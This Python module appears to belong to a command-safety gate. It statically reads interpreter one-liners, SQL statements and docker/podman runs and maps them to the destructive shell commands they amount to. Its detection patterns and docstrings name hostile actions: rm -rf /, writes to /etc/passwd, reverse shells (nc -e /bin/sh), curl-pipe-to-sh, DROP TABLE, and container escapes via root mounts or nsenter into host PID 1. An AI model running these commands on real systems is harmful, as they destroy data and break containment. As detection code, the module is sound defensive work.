"""Code inside code: interpreter one-liners, SQL and container runs read as what they do.

``interpreter_commands`` reads the code given to ``python -c``, ``perl -e``, ``ruby -e``, ``node
-e``, ``php -r``, ``lua -e``, ``awk`` and ``pwsh -Command`` and returns the shell code and the
commands it amounts to: ``os.system("rm -rf /")`` is the shell code ``rm -rf /``;
``shutil.rmtree("/etc")`` is ``rm -r -f /etc``; ``open("/etc/passwd", "w")`` is ``tee
/etc/passwd``; a socket wired to a shell is ``nc -e /bin/sh``. Python is parsed with its own
grammar (the standard library's ``ast``); the other languages by their call syntax, which is
enough for one-liners. Only what a call takes as a command or a path is read: a string the code
only prints is data. ``destructive_sql`` reads SQL statement by statement with its string
literals blanked, so ``LIKE '%drop table%'`` is data. ``container_command`` maps a container's
command back to the host paths it mounts (``docker run -v /:/host img rm -rf /host/etc``).
Nothing here runs anything.
"""

from __future__ import annotations

import ast
import contextlib
import itertools
import posixpath
import re

INTERPRETERS = re.compile(
    r"^(?:python[0-9.]*|pypy3?|perl[0-9.]*|ruby[0-9.]*|node|nodejs|deno|bun|php[0-9.]*|lua[0-9.]*"
    r"|luajit|awk|gawk|mawk|nawk|busybox-awk|pwsh|powershell)$"
)

# -- the code a command line hands to an interpreter --------------------------------------

_CODE_OPTIONS = {
    "python": ("-c",),
    "perl": ("-e", "-E"),
    "ruby": ("-e",),
    "node": ("-e", "--eval", "-p", "--print"),
    "php": ("-r",),
    "lua": ("-e",),
    "pwsh": ("-c", "-Command", "-command", "-C"),
}
_AWK_VALUE_OPTIONS = frozenset({"-F", "-v", "-f", "--field-separator", "--assign", "--file"})


def _language(name: str) -> str:
    for language in ("python", "pypy", "perl", "ruby", "node", "deno", "bun", "php", "lua"):
        if name.startswith(language):
            return {"pypy": "python", "deno": "node", "bun": "node"}.get(language, language)
    if name.endswith("awk"):
        return "awk"
    return "pwsh"


def inline_code(name: str, args: list[str]) -> tuple[str, str] | None:
    """(language, code) of an interpreter one-liner, or None when it runs a script file."""
    language = _language(name)
    if language == "awk":
        i, assigned = 0, []
        while i < len(args) and args[i].startswith("-") and args[i] != "-":
            if args[i] in ("-f", "--file"):
                return None
            if args[i] in ("-v", "--assign") and i + 1 < len(args):
                assigned.append(args[i + 1])
            elif args[i].startswith("-v") and "=" in args[i]:
                assigned.append(args[i][2:])
            i += 2 if args[i] in _AWK_VALUE_OPTIONS else 1
        return ("awk", _awk_assigned(args[i], assigned)) if i < len(args) else None
    flags = _CODE_OPTIONS[language]
    codes: list[str] = []
    for i, arg in enumerate(args[:-1]):
        short = language in ("perl", "ruby") and re.fullmatch(r"-[a-zA-Z]*[eE]", arg)
        if arg in flags or short:
            codes.append(args[i + 1])
    return (language, "\n".join(codes)) if codes else None


def _awk_assigned(program: str, assignments: list[str]) -> str:
    """``program`` with each ``-v NAME=VALUE`` variable written as its string value.

    ``awk -v F=/etc/passwd '{print > F}'`` writes /etc/passwd: read as ``print > "/etc/passwd"``.
    """
    for assignment in assignments:
        name, _, value = assignment.partition("=")
        if re.fullmatch(r"[A-Za-z_]\w*", name):
            quoted = '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
            pattern = re.compile(rf'(?<![\w"$]){name}\b(?!\s*\()')
            program = pattern.sub(quoted.replace("\\", "\\\\"), program)
    return program


# -- what code does, as shell --------------------------------------------------------------

# Python calls by dotted name: what the call amounts to, in shell words.
_PY_SHELL = frozenset(
    {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
     "commands.getoutput", "pty.spawn"}
)  # fmt: skip
_PY_ARGV = frozenset(
    {"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
     "subprocess.Popen", "os.execv", "os.execvp", "os.execve", "os.execvpe", "os.spawnv",
     "os.spawnvp", "os.posix_spawn", "os.posix_spawnp"}
)  # fmt: skip
_PY_EXECL = frozenset({"os.execl", "os.execlp", "os.execle", "os.execlpe", "os.spawnl"})
_PY_DELETE_TREE = frozenset({"shutil.rmtree", "rmtree"})
_PY_DELETE = frozenset({"os.remove", "os.unlink", "remove", "unlink", "os.removedirs"})
_PY_LIST = frozenset(
    {"os.listdir", "os.scandir", "os.walk", "listdir", "scandir", "walk", "glob.glob", "glob.iglob"}
)
_PY_MOVE = frozenset({"shutil.move", "os.rename", "os.replace", "rename", "move"})
_PY_COPY = frozenset({"shutil.copy", "shutil.copy2", "shutil.copyfile", "copyfile", "copy"})
_SOCKET = re.compile(
    r"socket|fsockopen|TCPSocket|net\.connect|net\.Socket|createConnection|/inet/tcp"
    r"|IO::Socket|Net::|TcpClient|createServer|stream_socket_client",
    re.IGNORECASE,
)
_SHELLISH = re.compile(
    r"/bin/(?:ba|z|da)?sh\b|\bsh\s+-i\b|cmd\.exe|dup2|pty\.spawn|child_process|proc_open"
    r"|\bexec\s*\(|\bspawn\s*\(|\bsystem\s*\(|popen|STDIN|iex\b|Invoke-Expression",
    re.IGNORECASE,
)
_FETCH = re.compile(
    r"urlopen|urlretrieve|requests\.get|LWP|\bget\s*\(\s*['\"]https?:|open-uri|URI\.open"
    r"|Net::HTTP|https?\.get|\bfetch\s*\(|file_get_contents\s*\(\s*['\"]https?:"
    r"|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|DownloadString|socket\.http",
    re.IGNORECASE,
)
_EVAL = re.compile(
    r"\b(?:exec|eval|system|iex|Invoke-Expression|require|load|loadstring|assert)\s*\(|\bsh\b",
    re.IGNORECASE,
)
_URL = re.compile(r"https?://[^\s'\"()]+")


class _PyReader(ast.NodeVisitor):
    """Walks Python code; collects the shell code and argv its calls amount to."""

    def __init__(self) -> None:
        self.codes: list[str] = []
        self.argvs: list[list[str]] = []
        self.aliases: dict[str, str] = {}  # `import os as o`, `from os import system as s`
        self.listed: list[str] = []  # directories the code lists: os.listdir("/etc"), glob
        self.computed_delete = False  # a delete whose path is computed (a loop variable)

    def deletes_in_listed(self) -> list[list[str]]:
        """A delete of computed paths in code that lists a directory reaches its entries.

        ``[p.unlink() for p in Path("/etc").glob("*")]`` names no path it deletes; the
        directory it lists is where the paths come from (an over-approximation, on purpose).
        """
        if not self.computed_delete:
            return []
        return [["rm", "-f", posixpath.join(d, "*")] for d in self.listed]

    def visit_Import(self, node: ast.Import) -> None:
        for alias in node.names:
            if alias.asname:
                self.aliases[alias.asname] = alias.name

    def visit_ImportFrom(self, node: ast.ImportFrom) -> None:
        for alias in node.names:
            if node.module and alias.name != "*":
                self.aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"

    def visit_Call(self, node: ast.Call) -> None:
        name = _dotted(node.func)
        head, _, attribute = name.partition(".")
        if head in self.aliases:  # the name the code gave a module or function: its real one
            name = self.aliases[head] + (f".{attribute}" if attribute else "")
        short = name.rsplit(".", 1)[-1]
        args = [_literal(a) for a in node.args]
        first = args[0] if args else None
        if name in _PY_SHELL and isinstance(first, str):
            self.codes.append(first)
        elif name in ("exec", "eval", "builtins.exec") and isinstance(first, str):
            # code given as a string: read it as the code it is (depth-bounded by the parser)
            with contextlib.suppress(SyntaxError, ValueError, RecursionError, MemoryError):
                self.visit(ast.parse(first))
        elif name in _PY_ARGV and node.args:
            raw = node.args[0]
            if isinstance(raw, ast.List | ast.Tuple):
                words = [_literal(e) for e in raw.elts]
                argv = [w if isinstance(w, str) else "$X" for w in words]
                if argv:
                    self.argvs.append([posixpath.basename(argv[0]), *argv[1:]])
            elif isinstance(first, str):
                self.codes.append(first)
        elif name in _PY_EXECL and len(args) > 1:
            rest = [a if isinstance(a, str) else "$X" for a in args[2:]]
            if isinstance(first, str):
                self.argvs.append([posixpath.basename(first), *rest])
        elif (name in _PY_DELETE_TREE or short == "rmtree") and isinstance(first, str):
            self.argvs.append(["rm", "-r", "-f", first])
        elif name in _PY_DELETE and isinstance(first, str):
            self.argvs.append(["rm", "-f", first])
        elif short in ("unlink", "rmdir") and isinstance(node.func, ast.Attribute):
            path = _path_of(node.func.value)
            if path:
                self.argvs.append(["rm", "-f", path] if short == "unlink" else ["rmdir", path])
            else:
                self.computed_delete = True
        elif (name in _PY_DELETE or name in _PY_DELETE_TREE or short == "rmtree") and node.args:
            self.computed_delete = True  # os.remove(p): p computed
        elif name in _PY_LIST and isinstance(first, str):
            self.listed.append(posixpath.dirname(first) if short in ("glob", "iglob") else first)
        elif short in ("glob", "rglob", "iterdir") and isinstance(node.func, ast.Attribute):
            if path := _path_of(node.func.value):
                self.listed.append(path)
        elif short in ("write_text", "write_bytes") and isinstance(node.func, ast.Attribute):
            path = _path_of(node.func.value)
            if path:
                self.argvs.append(["tee", path])
        elif name in ("open", "io.open", "os.open", "codecs.open") and isinstance(first, str):
            mode = args[1] if len(args) > 1 else _keyword(node, "mode")
            if isinstance(mode, str) and any(m in mode for m in "wax+"):
                self.argvs.append(["tee", "-a", first] if "a" in mode else ["tee", first])
            elif isinstance(mode, int) and mode & 0o1101:  # os.open flags: O_WRONLY|O_TRUNC...
                self.argvs.append(["tee", first])
        elif name in ("os.chmod", "chmod") and isinstance(first, str) and len(args) > 1:
            mode = args[1]
            self.argvs.append(["chmod", f"{mode:o}" if isinstance(mode, int) else "777", first])
        elif name in ("os.chown", "chown", "shutil.chown") and isinstance(first, str):
            self.argvs.append(["chown", "x", first])
        elif name in ("os.truncate",) and isinstance(first, str):
            self.argvs.append(["truncate", "-s", "0", first])
        elif (name in _PY_MOVE or name in _PY_COPY) and len(args) > 1:
            source, target = args[0], args[1]
            if isinstance(source, str) and isinstance(target, str):
                self.argvs.append(["mv" if name in _PY_MOVE else "cp", source, target])
        elif name in ("os.kill", "os.killpg") and first in (-1, 1):
            self.argvs.append(["kill", "-9", str(first)])
        self.generic_visit(node)


def _dotted(node: ast.expr) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        inner = _dotted(node.value)
        return f"{inner}.{node.attr}" if inner else node.attr
    # `__import__("os")`, `importlib.import_module("os")`: the module they return.
    if (
        isinstance(node, ast.Call)
        and _dotted(node.func) in ("__import__", "importlib.import_module", "import_module")
        and node.args
        and isinstance(module := _literal(node.args[0]), str)
    ):
        return module
    return ""


def _literal(node: ast.expr) -> object:
    """A constant's value; an f-string with ``$X`` for its holes; ``expanduser("~/x")``."""
    if isinstance(node, ast.Constant):
        return node.value
    if isinstance(node, ast.JoinedStr):
        return "".join(str(v.value) if isinstance(v, ast.Constant) else "$X" for v in node.values)
    if isinstance(node, ast.UnaryOp) and isinstance(node.op, ast.USub):
        value = _literal(node.operand)
        return -value if isinstance(value, int) else None
    if (
        isinstance(node, ast.Call)
        and node.args
        and _dotted(node.func).endswith(("expanduser", "Path", "abspath", "realpath", "join"))
    ):
        parts = [_literal(a) for a in node.args]
        if all(isinstance(p, str) for p in parts):
            return posixpath.join(*[str(p) for p in parts])
    return None


def _keyword(node: ast.Call, name: str) -> object:
    for keyword in node.keywords:
        if keyword.arg == name:
            return _literal(keyword.value)
    return None


def _path_of(node: ast.expr) -> str:
    """``Path("/etc/x")`` -> ``/etc/x``."""
    value = _literal(node)
    return value if isinstance(value, str) else ""


# Other languages: call names, then the string literal that is their first argument.
_LITERAL = r"""(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)"|q[qx]?\s*[({\[]([^)}\]]*)[)}\]])"""
_OTHER_SHELL = re.compile(
    r"(?:\bsystem|\bexec|\bshell_exec|\bpassthru|\bproc_open|\bpopen|\bexecSync|\bspawnSync"
    r"|\bexecFileSync|\bos\.execute|\bio\.popen|\bInvoke-Expression|\biex|\bStart-Process"
    r"|%x|\bqx|\bexec\.Command|\bRuntime\.getRuntime\(\)\.exec)\s*[\(\s]\s*(?:\[\s*)?" + _LITERAL
)
_BACKTICKS = re.compile(r"`([^`]+)`")
# Perl's and Ruby's bracketed forms: %x(CMD) and qx(CMD) run shell code, qw(...) is a list.
_BRACKETED_SHELL = re.compile(r"(?:%x|\bqx)\s*[({\[]([^)}\]]*)[)}\]]")
_QW_ARGV = re.compile(
    r"\b(?:system|exec)\s*\(?\s*qw\s*(?:\(([^)]*)\)|\[([^\]]*)\]|\{([^}]*)\}|/([^/]*)/)"
)
_OTHER_DELETE_TREE = re.compile(
    r"(?:\brmtree|\bremove_tree|\brm_rf|\brm_r|FileUtils\.rm_rf|FileUtils\.remove_dir"
    r"|FileUtils\.rm_r|rmSync|rmdirSync|\bRemove-Item)\s*[\(\s]\s*" + _LITERAL
)
_OTHER_DELETE = re.compile(
    r"(?:\bunlink|\bunlinkSync|File\.delete|File\.unlink|FileUtils\.rm|\bos\.remove"
    r"|\bdelete_file)\s*[\(\s]\s*" + _LITERAL
)
_OTHER_WRITE = re.compile(
    r"(?:\bopen\s*\(?\s*(?:my\s+)?\$?\w*\s*,\s*(?:'>>?'|\">>?\")\s*,\s*" + _LITERAL + r")"
    r"|(?:\bopen\s*\(?\s*(?:my\s+)?\$?\w*\s*,\s*(?:'|\")\+?>>?\s*([^'\"]+)['\"])"
    r"|(?:(?:File\.write|IO\.write|writeFileSync|appendFileSync|createWriteStream"
    r"|file_put_contents|Set-Content|Out-File|Add-Content)\s*[\(\s]\s*" + _LITERAL + r")"
)
# Opens that take a mode (Ruby's File.open, PHP's fopen, Lua's io.open): a write only when the
# mode writes, appends or updates (their default, or "r", reads).
_MODE_OPEN = re.compile(
    r"(?:\bFile\.open|\bfopen|\bio\.open)\s*\(?\s*" + _LITERAL + r"\s*,\s*['\"]([^'\"]*)['\"]"
)
# Perl deletes what a glob matches: unlink glob "/etc/*", unlink </etc/*>.
_PERL_GLOB_DELETE = re.compile(r"\bunlink\s*\(?\s*(?:glob\s*\(?\s*" + _LITERAL + r"|<([^>\s]+)>)")
_AWK_WRITE = re.compile(r"\bprintf?\b[^>|;}]*>>?\s*\"([^\"]+)\"")
_AWK_PIPE = re.compile(r"\|\s*\"([^\"]+)\"|\"([^\"]+)\"\s*\|\s*getline")
_OTHER_CHMOD = re.compile(r"\bchmod\w*\s*\(?\s*(?:0?([0-7]{3,4})\s*,\s*)?" + _LITERAL)


def _unescape(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def _first(match: re.Match[str]) -> str:
    return _unescape(next((g for g in match.groups() if g), ""))


# PowerShell cmdlets (and their aliases) with the shell words they amount to.
_PS_REMOVE = frozenset({"remove-item", "ri", "rm", "del", "erase", "rd", "rmdir"})
_PS_WRITE = frozenset({"set-content", "sc", "out-file", "add-content", "ac", "clear-content"})
_PS_STOP = {"stop-computer": ["shutdown", "-h", "now"], "restart-computer": ["reboot"]}
_PS_DISK = frozenset({"format-volume", "clear-disk", "initialize-disk", "remove-partition"})
_PS_PATH_PARAMETERS = frozenset({"-path", "-literalpath", "-filepath", "-p"})
# Parameters that take no value: the word after one is positional (a path).
_PS_SWITCHES = frozenset(
    {"-recurse", "-r", "-force", "-fo", "-f", "-confirm", "-verbose", "-nonewline", "-append"}
)


def _ps_path(word: str) -> str:
    """A PowerShell path as the gate reads paths: a drive's root is the root."""
    word = word.strip("'\"").replace("\\", "/")
    drive = re.fullmatch(r"[A-Za-z]:(/.*)?", word)
    if drive:
        return drive.group(1) or "/"
    return word


def powershell_commands(code: str) -> list[list[str]]:
    """What a PowerShell one-liner's file and machine cmdlets amount to, as shell argv."""
    import shlex

    argvs: list[list[str]] = []
    for statement in re.split(r"[;|\n]", code):
        try:
            words = shlex.split(statement.replace("\\", "\\\\"), posix=True)
        except ValueError:
            words = statement.split()
        if not words:
            continue
        cmdlet, rest = words[0].lower(), words[1:]
        lowered = [w.lower() for w in rest]
        if "-whatif" in lowered:
            continue  # PowerShell's dry run: says what it would do, does nothing
        positional = [
            w
            for i, w in enumerate(rest)
            if not w.startswith("-")
            and (
                i == 0
                or not rest[i - 1].startswith("-")
                or lowered[i - 1] in _PS_PATH_PARAMETERS
                or lowered[i - 1] in _PS_SWITCHES
            )
        ]
        path = _ps_path(positional[0]) if positional else ""
        if cmdlet in _PS_REMOVE and path:
            recurse = any(w in ("-recurse", "-r") for w in lowered)
            argvs.append(["rm", "-r", "-f", path] if recurse else ["rm", "-f", path])
        elif cmdlet in _PS_WRITE and path:
            argvs.append(["tee", path])
        elif cmdlet in _PS_STOP:
            argvs.append(list(_PS_STOP[cmdlet]))
        elif cmdlet in _PS_DISK:
            argvs.append(["wipefs", "-a", "/dev/disk"])
    return argvs


_ARGV_CALL = re.compile(r"\b(?:system|exec|spawn|execFileSync|spawnSync)\b\s*\(?\s*")
_LITERAL_AT = re.compile(_LITERAL)
_COMMA = re.compile(r"\s*,\s*(?:\[\s*)?")


def _argv_calls(code: str) -> list[list[str]]:
    """``system("rm", "-rf", "/usr")``, ``spawnSync("rm", ["-rf", "/"])``: program and words."""
    found = []
    for call in _ARGV_CALL.finditer(code):
        words: list[str] = []
        at = call.end()
        while (literal := _LITERAL_AT.match(code, at)) is not None:
            words.append(_first(literal))
            comma = _COMMA.match(code, literal.end())
            if comma is None:
                break
            at = comma.end()
        if len(words) > 1:
            found.append([posixpath.basename(words[0]), *words[1:]])
    return found


def interpreter_commands(name: str, args: list[str]) -> tuple[list[str], list[list[str]]]:
    """The shell code and the commands an interpreter one-liner amounts to (never raises)."""
    found = inline_code(name, args)
    if found is None:
        return [], []
    language, code = found
    codes: list[str] = []
    argvs: list[list[str]] = []
    if language == "python":
        reader = _PyReader()
        with contextlib.suppress(SyntaxError, ValueError, RecursionError, MemoryError):
            reader.visit(ast.parse(code))
        codes, argvs = reader.codes, reader.argvs + reader.deletes_in_listed()
    else:
        codes.extend(_first(m) for m in _OTHER_SHELL.finditer(code))
        argvs.extend(_argv_calls(code))
        if language in ("perl", "ruby", "php"):
            codes.extend(m.group(1) for m in _BACKTICKS.finditer(code))
        if language in ("perl", "ruby"):
            codes.extend(m.group(1) for m in _BRACKETED_SHELL.finditer(code))
            argvs.extend(
                next(g for g in m.groups() if g is not None).split()
                for m in _QW_ARGV.finditer(code)
            )
        if language == "perl":
            argvs.extend(["rm", "-f", _first(m)] for m in _PERL_GLOB_DELETE.finditer(code))
        if language == "pwsh":
            argvs.extend(powershell_commands(code))
        argvs.extend(["rm", "-r", "-f", _first(m)] for m in _OTHER_DELETE_TREE.finditer(code))
        argvs.extend(["rm", "-f", _first(m)] for m in _OTHER_DELETE.finditer(code))
        argvs.extend(["tee", _first(m)] for m in _OTHER_WRITE.finditer(code))
        argvs.extend(
            ["tee", _unescape(next((g for g in m.groups()[:3] if g), ""))]
            for m in _MODE_OPEN.finditer(code)
            if re.search(r"[wa+]", m.group(4))
        )
        for m in _OTHER_CHMOD.finditer(code):
            path = _unescape(next((g for g in m.groups()[1:] if g), ""))
            argvs.append(["chmod", m.group(1) or "u+x", path])
        if language == "awk":
            codes.extend(m.group(1) for m in re.finditer(r"\bsystem\s*\(\s*\"([^\"]*)\"", code))
            argvs.extend(["tee", m.group(1)] for m in _AWK_WRITE.finditer(code))
            codes.extend(m.group(1) or m.group(2) for m in _AWK_PIPE.finditer(code))
    if _SOCKET.search(code) and _SHELLISH.search(code):
        argvs.append(["nc", "-e", "/bin/sh", "remote-host"])
    if _FETCH.search(code) and _EVAL.search(code):
        url = _URL.search(code)
        codes.append(f"curl -s {url.group(0) if url else 'https://remote-host'} | sh")
    return [c for c in codes if c.strip()], [a for a in argvs if a and a[-1]]


# -- SQL ------------------------------------------------------------------------------------

_SQL_LITERAL = re.compile(r"'(?:[^']|'')*'|\"(?:[^\"]|\"\")*\"|\$\$.*?\$\$", re.DOTALL)
_SQL_COMMENT = re.compile(r"--[^\n]*|/\*.*?\*/", re.DOTALL)
_TAUTOLOGY = r"(?:(\d+)\s*=\s*\1|true|''\s*=\s*''|not\s+false)\s*(?:$|\bor\b)"
SQL_STATEMENTS: tuple[tuple[str, str, str], ...] = (
    ("drop", r"^drop\s+(?:database|schema|table|keyspace|collection|user)\b",
     "Drops a database, schema or table: the data is gone."),
    ("truncate", r"^truncate\b", "Empties a table (TRUNCATE)."),
    ("delete-all", r"^delete\s+(?:from\s+)?[\w.\"`\[\]]+\s*(?:;|$)(?!.*\bwhere\b)",
     "Deletes every row of a table (DELETE without WHERE)."),
    ("update-all", r"^update\s+[\w.\"`\[\]]+\s+set\b(?!.*\bwhere\b)",
     "Changes every row of a table (UPDATE without WHERE)."),
    # A WHERE that holds for every row (1=1, true, ''='') is no WHERE at all.
    ("delete-all", r"^delete\s+(?:from\s+)?[\w.\"`\[\]]+\s+where\s+" + _TAUTOLOGY,
     "Deletes every row of a table (its WHERE holds for every row)."),
    ("update-all", r"^update\s+[\w.\"`\[\]]+\s+set\b.*\bwhere\s+" + _TAUTOLOGY,
     "Changes every row of a table (its WHERE holds for every row)."),
    ("drop", r"\.dropdatabase\s*\(|\.drop\s*\(\s*\)", "Drops a MongoDB database or collection."),
    ("delete-all", r"\.(?:deletemany|remove)\s*\(\s*\{\s*\}\s*\)",
     "Deletes every document of a collection."),
)  # fmt: skip
_SQL_COMPILED = tuple(
    (kind, re.compile(p, re.DOTALL), message) for kind, p, message in SQL_STATEMENTS
)


def destructive_sql(text: str) -> list[tuple[str, str]]:
    """(kind, message) for each destructive statement in ``text``; string literals are data."""
    bare = _SQL_LITERAL.sub("''", _SQL_COMMENT.sub(" ", text)).lower()
    out: list[tuple[str, str]] = []
    for statement in bare.split(";"):
        statement = " ".join(statement.split())
        for kind, pattern, message in _SQL_COMPILED:
            if pattern.search(statement) and (kind, message) not in out:
                out.append((kind, message))
    return out


# -- containers -----------------------------------------------------------------------------

_CONTAINER_RUNNERS = frozenset({"docker", "podman", "nerdctl"})
_RUN_VALUE_OPTIONS = frozenset(
    "-e --env --env-file --name -p --publish -w --workdir --entrypoint --network --net -u --user "  # noqa: SIM905
    "-h --hostname -l --label --cpus -m --memory --restart --pid --ipc --device --add-host "
    "--platform --pull --log-driver --log-opt --cap-add --cap-drop --security-opt --tmpfs "
    "--ulimit --shm-size --dns --mac-address --ip --runtime --cgroupns --userns --uts "
    "--gpus --stop-signal --health-cmd --expose --link --volumes-from".split()
)
_ABSOLUTE = re.compile(r"(?<![\w./~$:-])/[^\s'\";|&<>()]*")


def container_command(name: str, args: list[str]) -> list[str] | None:
    """The command a ``docker/podman/nerdctl run`` starts, with host mounts mapped back.

    Paths under a mount's container side read as the host path; other absolute paths are the
    container's own and read as ``/container/...`` (harmless to the host). None when nothing of
    the host is mounted, or no command is given.
    """
    if name not in _CONTAINER_RUNNERS or not args:
        return None
    rest = args[1:] if args[0] == "run" else args[2:] if args[:2] == ["container", "run"] else None
    if rest is None:
        return None
    mounts: list[tuple[str, str]] = []
    i = 0
    while i < len(rest) and rest[i].startswith("-"):
        option, eq, value = rest[i].partition("=")
        if option in ("-v", "--volume", "--mount") or (option.startswith("-v") and len(option) > 2):
            if not eq and option in ("-v", "--volume", "--mount"):
                i += 1
                value = rest[i] if i < len(rest) else ""
            elif option.startswith("-v") and option != "-v":
                value = option[2:]
            mounts.extend(_mount(value))
        elif not eq and option in _RUN_VALUE_OPTIONS:
            i += 1
        i += 1
    command = rest[i + 1 :]
    options = rest[:i]
    privileged = "--privileged" in options
    if privileged and _joins_host_pid1(options, command):
        return command  # nsenter into PID 1 of the host's process namespace: the host itself
    if privileged:  # a privileged container sees the host's devices under /dev
        mounts.append(("/dev", "/dev"))
    if not mounts or not command:
        return None
    mounts.sort(key=lambda m: len(m[1]), reverse=True)
    reached: list[str] = []

    def to_host(match: re.Match[str]) -> str:
        path = _to_host(match.group(0), mounts)
        if not path.startswith("/container"):
            reached.append(path)
        return path

    mapped = [_ABSOLUTE.sub(to_host, w) for w in command[1:]]
    # Only what reaches a mounted host path matters; the container's own files are its own.
    return [command[0], *mapped] if reached else None


def _joins_host_pid1(options: list[str], command: list[str]) -> bool:
    """``--pid=host`` and ``nsenter -t 1 ...``: the command enters the host's namespaces."""
    pid_host = "--pid=host" in options or any(
        a == "--pid" and b == "host" for a, b in itertools.pairwise(options)
    )
    if not pid_host or not command or command[0] != "nsenter":
        return False
    words = command[1:]
    return (
        any((a in ("-t", "--target") and b == "1") for a, b in itertools.pairwise(words))
        or "--target=1" in words
    )


def _mount(value: str) -> list[tuple[str, str]]:
    if "," in value and "=" in value:  # --mount type=bind,source=/,target=/host
        fields = dict(f.partition("=")[::2] for f in value.split(","))
        source = fields.get("source") or fields.get("src") or ""
        target = fields.get("target") or fields.get("destination") or fields.get("dst") or ""
        return [(source, target)] if source.startswith(("/", "~", "$")) and target else []
    parts = value.split(":")
    if len(parts) >= 2 and parts[0].startswith(("/", "~", "$")) and parts[1].startswith("/"):
        return [(parts[0], parts[1])]
    return []


def _to_host(path: str, mounts: list[tuple[str, str]]) -> str:
    for source, target in mounts:
        inside = target.rstrip("/") or "/"
        if inside == "/" or path == inside or path.startswith(inside + "/"):
            tail = path[len(inside) :] if inside != "/" else path
            return posixpath.join(source, tail.lstrip("/")) if tail.strip("/") else source
    # A folder holding a mount point holds what is mounted (`rm -rf /` over `-v /:/root`).
    holds = [source for source, target in mounts if target.startswith(path.rstrip("/") + "/")]
    return min(holds, key=len) if holds else "/container" + path
